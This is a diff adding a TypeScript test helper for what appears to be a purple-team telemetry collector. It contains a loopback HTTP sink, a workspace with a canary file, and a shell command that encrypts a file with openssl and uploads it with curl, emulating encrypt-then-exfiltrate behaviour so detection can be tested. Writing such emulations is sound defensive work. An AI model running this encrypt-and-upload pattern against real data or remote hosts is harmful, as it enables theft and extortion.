@@ -1,0 +1,64 @@
+// Shared by the live collector tests: a loopback HTTP sink, a workspace with a canary file, and
+// the tiny encrypt-then-upload emulation the brief names, started as a real process tree.
+
+import { createServer, type Server } from 'node:http';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { execa } from 'execa';
+import type { EmulationWindow, TelemetryEvent } from '../../src/model/index.js';
+
+export interface Sink {
+  port: number;
+  received: number;
+  close(): Promise<void>;
+}
+
+export async function startSink(): Promise<Sink> {
+  const s: { received: number } = { received: 0 };
+  const server: Server = createServer((req, res) => {
+    req.resume();
+    req.on('end', () => {
+      s.received++;
+      res.end('ok\n');
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const addr = server.address();
+  if (!addr || typeof addr === 'string') throw new Error('no port');
+  return {
+    port: addr.port,
+    get received() {
+      return s.received;
+    },
+    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
+  };
+}
+
+export function makeWorkspace(): { dir: string; cleanup(): void } {
+  const dir = mkdtempSync(join(tmpdir(), 'purple-collector-test-'));
+  writeFileSync(join(dir, 'F'), 'PURPLE-CANARY\n' + 'x'.repeat(4096));
+  return { dir, cleanup: () => rmSync(dir, { recursive: true, force: true }) };
+}
+
+export function emulationArgv(port: number): string[] {
+  return ['sh', '-c', `openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in F -out G; curl -s --data-binary @G http://127.0.0.1:${port}/`];
+}
+
+/** Runs argv in dir, returns the window the harness would report for it. */
+export async function runEmulation(argv: string[], dir: string, variantId = 'v1'): Promise<EmulationWindow & { exitCode: number | undefined }> {
+  const startMs = Date.now();
+  const [file, ...args] = argv;
+  const child = execa(file!, args, { cwd: dir, reject: false, stdin: 'ignore' });
+  const pid = child.pid!;
+  const r = await child;
+  return { variantId, rootPids: [pid], startMs, endMs: Date.now(), exitCode: r.exitCode };
+}
+
+export function findExec(events: TelemetryEvent[], name: string): TelemetryEvent | undefined {
+  return events.find((e) => e.event.action === 'exec' && e.process?.name === name);
+}
+
+export function findConnect(events: TelemetryEvent[], port: number): TelemetryEvent | undefined {
+  return events.find((e) => e.event.category === 'network' && e.destination?.port === port && e.destination.ip === '127.0.0.1');
+}
